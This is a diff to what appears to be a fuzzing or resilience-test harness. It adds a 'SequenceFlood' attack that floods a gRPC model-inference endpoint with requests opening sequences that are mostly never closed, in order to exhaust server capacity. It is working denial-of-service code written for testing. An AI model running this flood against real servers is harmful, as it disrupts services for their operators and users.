@@ -9,9 +9,21 @@ from typing import Final
 
 from fuzz.attacks.attack import Attack
 from fuzz.attacks.peer import Peer
-from fuzz.attacks.wire import END_HEADERS, END_STREAM, Code, Kind, frame, framed, greeting, infer_message, request_block
+from fuzz.attacks.wire import (
+    END_HEADERS,
+    END_STREAM,
+    Code,
+    Kind,
+    field,
+    frame,
+    framed,
+    greeting,
+    infer_message,
+    request_block,
+    varint,
+)
 
-__all__ = ["MessageFlood", "StreamResets", "UnreadAnswers"]
+__all__ = ["MessageFlood", "SequenceFlood", "StreamResets", "UnreadAnswers"]
 
 _PATH: Final = "/inference.GRPCInferenceService/ModelStreamInfer"
 _BLOCK: Final = request_block(_PATH)
@@ -75,6 +87,47 @@ class UnreadAnswers(Attack):
         for stream_id in (1, 3, 5, 7):
             await peer.send(_call(stream_id, bodies, ends=False), 1)
         await peer.wait_over()
+
+
+class SequenceFlood(Attack):
+    """Sequences without end, each with one request, and most of them never ended."""
+
+    name = "sequence-flood"
+    summary = "messages on streams, 13,000 in a call, each of which begins a sequence of another id; one in 16 ends it"
+    limit = "sequences that wait count by their requests, `capacity` x `batch_size` of a model; others are refused; "
+    limit += "one that rests is given up after `max_idle_us`, 256 at a time"
+    stops = ()
+    connections = 2
+
+    @cached_property
+    def _bodies(self) -> bytes:
+        parts: list[bytes] = []
+        size = number = 0
+        while size < _CALL_BYTES:
+            number += 1
+            said = _parameter("sequence_id", b"\x10" + varint(number * 0x9E3779B97F4A7C15 % 2**63))
+            said += _parameter("sequence_start", b"\x08\x01")
+            said += _parameter("sequence_end", b"\x08\x01" if number % 16 == 0 else b"\x08\x00")
+            parts.append(framed(infer_message("sums", [1, 4], bytes(16), "FP32", rest=said)))
+            size += len(parts[-1])
+        return b"".join(parts[:-1])
+
+    def prepare(self) -> None:
+        """See ``Attack``."""
+        assert self._bodies
+
+    async def strike(self, peer: Peer) -> None:
+        """See ``Attack``."""
+        await peer.send(greeting())
+        for stream_id in count(1, 2):
+            await peer.send(_call(stream_id, self._bodies, ends=True), 1)
+            while peer.answered <= stream_id // 2:
+                await peer.wait_answer()
+
+
+def _parameter(name: str, value: bytes) -> bytes:
+    """An entry of a request's parameters."""
+    return field(4, field(1, name.encode()) + field(2, value))
 
 
 class StreamResets(Attack):
